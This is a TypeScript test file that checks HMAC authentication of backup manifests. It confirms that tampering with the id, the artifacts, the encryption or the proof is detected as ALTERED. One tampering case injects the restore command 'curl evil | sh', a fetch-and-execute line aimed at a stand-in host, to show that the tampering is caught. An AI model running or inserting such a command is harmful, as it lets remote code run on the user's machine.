import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import { text } from "node:stream/consumers";
import { generateIdentity, identityToRecipient } from "age-encryption";
import { beforeAll, describe, expect, it } from "vitest";
import type { Manifest } from "../../server/domain/manifest.ts";
import { authenticate, authenticityOf } from "../../server/engine/authentication.ts";
import { readManifest } from "../../server/engine/manifest.ts";
import { freshDatabase } from "../support/shared-server.ts";
import { takeBackup } from "../support/taken-backup.ts";
import { makeTree } from "../support/trees.ts";
import { temporaryFolder } from "../support/uploads.ts";

const macKey = { keyId: "0a1b2c3d", key: randomBytes(32) };
let taken: Awaited<ReturnType<typeof takeBackup>>;
beforeAll(async () => {
  await using folder = await temporaryFolder();
  await using shop = await freshDatabase("proved");
  await shop.sql.query("CREATE TABLE goods (id INT PRIMARY KEY); INSERT INTO goods VALUES (1)");
  const media = await makeTree(folder.path, { "a.txt": "first file" });
  const recipients = [await identityToRecipient(await generateIdentity())];
  const encryption = { format: "age-encryption.org/v1", keyId: macKey.keyId, recipients } as const;
  taken = await takeBackup({ connection: shop.connection, roots: [media] }, { compression: "ZSTD", level: 3 }, { encryption, mac: macKey });
});

const keyOf = (keyId: string) => (keyId === macKey.keyId ? macKey.key : null);
/** As it lies on the storage, read back. */
const written = async () => {
  const { storage, folder } = taken;
  return { manifest: await readManifest(storage, folder), folder };
};

describe("a manifest's proof", () => {
  it("fits what was written, in whatever order the catalog gives the fields, and a newer reading's fields that are null", async () => {
    const { manifest, folder } = await written();
    expect(authenticityOf(manifest, folder, keyOf)).toBe("AUTHENTIC");
    const reversed = Object.fromEntries(Object.entries(manifest).reverse()) as unknown as Manifest;
    expect(authenticityOf(reversed, folder, keyOf)).toBe("AUTHENTIC");
    expect(authenticityOf({ ...manifest, later: null } as Manifest, folder, keyOf)).toBe("AUTHENTIC");
  });

  it("is the one that its description says, made by other means", async () => {
    const { storage, folder } = taken;
    const script = `import hmac, json, sys
def bare(x): return {k: bare(v) for k, v in x.items() if v is not None} if isinstance(x, dict) else [bare(v) for v in x] if isinstance(x, list) else x
m = json.load(sys.stdin); told = m.pop("authentication")["mac"]
text = "holdfast manifest v1\\n" + json.dumps(bare(m), sort_keys=True, separators=(",", ":"), ensure_ascii=False)
print(hmac.new(bytes.fromhex(sys.argv[1]), text.encode(), "sha256").hexdigest() == told)`;
    const child = execFile("python3", ["-c", script, macKey.key.toString("hex")]);
    child.stdin?.end(storage.files.get(`${folder}/manifest.json`));
    expect(child.stdout && (await text(child.stdout))).toBe("True\n");
  });

  const bent: readonly (readonly [string, (manifest: Manifest) => object])[] = [
    ["its id", (manifest) => ({ ...manifest, id: "1a1b2c3d-0000-4000-8000-000000000000" })],
    ["its source", (manifest) => ({ ...manifest, source: { ...manifest.source, id: "another" } })],
    ["its time", (manifest) => ({ ...manifest, createdAt: "2020-01-01T00:00:00.000Z" })],
    [
      "an artifact's sum",
      (manifest) => ({ ...manifest, artifacts: manifest.artifacts.map((file) => ({ ...file, sha256: "0".repeat(64) })) }),
    ],
    ["what is packed in it", (manifest) => ({ ...manifest, artifacts: manifest.artifacts.map((file) => ({ ...file, packed: null })) })],
    ["the order of its files", (manifest) => ({ ...manifest, artifacts: manifest.artifacts.toReversed() })],
    ["a command", (manifest) => ({ ...manifest, restoreCommands: ["curl evil | sh"] })],
    ["its encryption", (manifest) => ({ ...manifest, encrypted: false, encryption: null })],
    ["a table's rows", (manifest) => ({ ...manifest, database: manifest.database && { ...manifest.database, dataBytes: 1 } })],
    ["a field that nobody knows", (manifest) => ({ ...manifest, later: "x" })],
    ["its proof, cut", (manifest) => ({ ...manifest, authentication: { ...manifest.authentication, mac: "00" } })],
    ["its proof, taken away", (manifest) => ({ ...manifest, authentication: null })],
  ];
  it.each(bent)("does not fit once %s was changed", async (_, bend) => {
    const { manifest, folder } = await written();
    expect(authenticityOf(bend(manifest) as Manifest, folder, keyOf)).toBe("ALTERED");
  });

  it("does not fit in another folder, nor another record's proof here", async () => {
    const { manifest, folder } = await written();
    expect(authenticityOf(manifest, "shop/another", keyOf)).toBe("ALTERED");
    const moved = { ...manifest, folder: "shop/another" };
    expect(authenticityOf(moved, "shop/another", keyOf)).toBe("ALTERED");
    expect(authenticityOf({ ...manifest, authentication: authenticate(manifest, macKey, "labels") }, folder, keyOf)).toBe("ALTERED");
  });

  it("says nothing where the key is not at hand, and is not asked of manifests from before there was one", async () => {
    const { manifest, folder } = await written();
    expect(authenticityOf(manifest, folder, () => null)).toBe("FOREIGN");
    const older = { ...manifest, folder: null, encrypted: false, encryption: null, authentication: null };
    expect(authenticityOf(older, folder, keyOf)).toBe("UNSIGNED");
  });
});
